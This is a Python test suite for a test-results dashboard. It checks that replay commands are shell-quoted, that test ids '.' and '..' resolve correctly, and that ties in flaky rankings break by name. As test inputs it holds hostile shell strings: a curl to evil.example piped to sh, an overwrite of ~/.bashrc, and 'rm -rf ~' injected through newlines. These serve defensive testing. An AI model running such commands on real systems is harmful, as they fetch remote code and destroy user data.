"""The smaller findings of issue 15 (finding 5), each probed through the API.

- a run's replay command repeated the recorded command line verbatim, newlines
  included: whoever held a write token chose what a developer pasted into a shell;
- test ids ``.`` and ``..`` got links that browsers normalise away;
- trends' "most flaky" broke ties by internal id, so two databases holding the same
  runs could list them differently.

(Spool files made 0644 are test_spool.SpoolModeTests: the spool is on the client.)
"""

from __future__ import annotations

import re
import shlex
import urllib.request
from html import unescape
from pathlib import Path
from typing import Any
from uuid import uuid4

from twisted.trial.unittest import SynchronousTestCase

from seedboard.triage.trends import MOST_FLAKY
from seedboard.web.openapi import openapi_document
from seedboard.web.urls import path_to_test
from tests.browser_support import Browser
from tests.support import exchange, record_run, result, run_start, start_server, temporary_database
from tests.test_ingest import result_body, run_body
from tests.test_ingest_api import APICase, row_counts
from tests.test_urls import DOT_SEGMENTS

ONE_LINE_FIELDS = (
    "command",
    "host",
    "python_version",
    "twisted_version",
    "branch",
    "commit",
    "build_url",
)
CONTROL = ("\n", "\r\n", "\t", "\x1b[2J", "\x7f", "\x85", "x\n")
HOSTILE_COMMAND = "trial x; curl evil.example | sh $(id) `id` > ~/.bashrc & pkg"


class ReplayCommandTests(APICase):
    def test_control_characters_refused(self) -> None:
        """A newline, tab, escape, DEL or C1 character in any piece of metadata that goes on
        one line or into a shell is a 400 naming the field; nothing is stored."""
        rows = row_counts(self.database)
        for field in ONE_LINE_FIELDS:
            for bad in CONTROL:
                body = run_body(**{field: f"trial{bad}rm -rf ~"})
                answer = self.send("PUT", f"/api/v1/runs/{uuid4().hex}", body)
                self.assertEqual(answer.status, 400, (field, bad, answer.body))
                error = answer.body["error"]
                self.assertEqual((error["code"], error["field"]), ("invalid", field), bad)
                self.assertIn("control characters", error["message"])
        self.assertEqual(row_counts(self.database), rows)

    def test_documented(self) -> None:
        """The OpenAPI document says what the Structs enforce: each field has the pattern."""
        body = openapi_document()["components"]["schemas"]["RunBody"]["properties"]
        for field in ONE_LINE_FIELDS:
            schemas = body[field].get("anyOf", [body[field]])
            [text] = [s for s in schemas if s.get("type") == "string"]
            self.assertEqual(text["pattern"], "^[^\\x00-\\x1f\\x7f-\\x9f]*$(?!\\n)", field)

    def replay_of(self, run_id: str) -> Any:
        return self.run_json(run_id)["run"]["replay_command"]

    def test_hostile_command_quoted(self) -> None:
        """Shell syntax in a recorded command comes back as quoted arguments of the recorded
        program: the replay splits into the seed, then exactly the recorded words."""
        run_id = self.create(command=HOSTILE_COMMAND, run_seed=7, order_seed=None)
        replay = self.replay_of(run_id)
        self.assertEqual(
            shlex.split(replay),
            ["SEEDBOARD_RUN_SEED=7", "SEEDBOARD_REPLAY=1", *shlex.split(HOSTILE_COMMAND)],
        )
        self.assertIn("'x;'", replay)
        self.assertIn("'$(id)'", replay)
        self.assertEqual(replay.count("\n"), 0)

    def test_stored_bad_command(self) -> None:
        """A row stored before ingest refused control characters (or by a local database)
        gets no whole-run replay command, in the JSON or on the page."""
        for command in ("trial pkg\ncurl evil.example | sh", "trial 'pkg\n'", "trial 'unbalanced"):
            start = run_start(command=command, run_seed=7)
            record_run(self.database, [result()], start)
            self.assertIsNone(self.replay_of(start.id), command)
            page = self.send("GET", f"/runs/{start.id}", token=None).body.decode()
            self.assertNotIn("Replay this whole run", page)
            self.assertNotIn('id="run-replay"', page)


DOTTED = (".", "..", ".~", "..~", "...", "a/..")


class DotTestIdTests(SynchronousTestCase):
    """Tests named ``.`` and ``..`` on ``seedboard serve`` over loopback."""

    def setUp(self) -> None:
        database = temporary_database(self)
        self.start = record_run(database, [result(test_id) for test_id in DOTTED])
        cwd = Path(self.mktemp())
        cwd.mkdir()
        url = database.writer.url.render_as_string(hide_password=False)
        self.base = start_server(self, cwd, "--db", url, "--port", "0")

    def page_test_id(self, path: str) -> str:
        with urllib.request.urlopen(self.base + path) as response:
            page = response.read().decode()
        found = re.search(r'<h1 class="test-id"><code>(.*?)</code>', page, re.DOTALL)
        assert found is not None, path
        return unescape(found.group(1))

    def api_test_id(self, path: str) -> str:
        reply = exchange(self, self.base, "GET", "/api/v1" + path)
        self.assertEqual(reply.status, 200, path)
        assert isinstance(reply.body, dict)
        return str(reply.body["test_id"])

    def test_links_lead_to_their_test(self) -> None:
        """Every link on the run page, and its API twin, leads to its own test; so do the
        ``url`` fields of the run's JSON."""
        with urllib.request.urlopen(f"{self.base}/runs/{self.start.id}") as response:
            page = response.read().decode()
        links = {unescape(href) for href in re.findall(r'href="(/tests/[^"]*)"', page)}
        self.assertEqual(links, {path_to_test(test_id) for test_id in DOTTED})
        for link in links:  # what browsers would drop, "%2E" included
            self.assertNotIn(link.removeprefix("/tests/").lower(), DOT_SEGMENTS, link)
        for test_id in DOTTED:
            link = path_to_test(test_id)
            self.assertEqual(self.page_test_id(link), test_id, link)
            self.assertEqual(self.api_test_id(link), test_id, link)
        reply = exchange(self, self.base, "GET", f"/api/v1/runs/{self.start.id}")
        assert isinstance(reply.body, dict)
        for shown in reply.body["results"]:
            self.assertEqual(self.api_test_id(shown["url"]), shown["test_id"])

    def test_percent_encoded_dots(self) -> None:
        """``/tests/%2E`` and ``/tests/%2E%2E``, as a script may send them, and their API
        twins name ``.`` and ``..``."""
        for path, test_id in (("/tests/%2E", "."), ("/tests/%2E%2E", ".."), ("/tests/.%2e", "..")):
            self.assertEqual(self.page_test_id(path), test_id, path)
            self.assertEqual(self.api_test_id(path), test_id, path)

    def test_in_chromium(self) -> None:
        """In Chromium, clicking each test's link on the run page opens that test's page
        (a ``%2E`` link would not: the URL standard drops it like a ``.``)."""
        browser = Browser(self, self.base)
        with browser.context_page() as page:
            for test_id in DOTTED:
                page.goto(f"{self.base}/runs/{self.start.id}")
                page.click(f'a[href="{path_to_test(test_id)}"]')
                page.wait_for_load_state()
                self.assertEqual(page.locator("h1.test-id code").inner_text(), test_id, page.url)
            resolved = page.evaluate("new URL('/tests/%2E%2E', location.href).pathname")
            self.assertEqual(resolved, "/")
        browser.assert_quiet(self)


class TiedRankingTests(APICase):
    """More tied tests than the most-flaky list holds, given keys in reverse name order."""

    def setUp(self) -> None:
        super().setUp()
        self.names = [f"pkg.test_{n:02d}" for n in range(MOST_FLAKY + 5)]
        failing = self.create(started_at="2026-11-25T10:00:00Z", order_seed=None)
        # One batch per test, the last name first: the database numbers the tests in
        # the reverse of their names' order, as a database migrated from another may.
        for number, name in enumerate(reversed(self.names)):
            batch = [result_body(test_id=name, outcome="failure", seed=1)]
            self.assertEqual(self.batch(failing, number, batch).status, 201)
        passing = self.create(started_at="2026-11-25T11:00:00Z", order_seed=None)
        batch = [result_body(test_id=name, outcome="success", seed=1) for name in self.names]
        self.assertEqual(self.batch(passing, 0, batch).status, 201)

    def api(self, path: str) -> Any:
        answer = self.send("GET", path, token=None)
        self.assertEqual(answer.status, 200, answer.body)
        return answer.body

    def test_most_flaky_ties_by_name(self) -> None:
        """Trends' most flaky tests, all tied on failures, are the first by test id, in
        test id order."""
        shown = [t["test_id"] for t in self.api("/api/v1/trends?days=7")["most_flaky"]]
        self.assertEqual(shown, self.names[:MOST_FLAKY])

    def test_flaky_page_ties_by_name(self) -> None:
        """The flaky page's tests, tied on class and every rate, are in test id order, the
        limit keeping the first."""
        shown = [t["test_id"] for t in self.api("/api/v1/flaky")["tests"]]
        self.assertEqual(shown, self.names)
        shown = [t["test_id"] for t in self.api("/api/v1/flaky?limit=3")["tests"]]
        self.assertEqual(shown, self.names[:3])
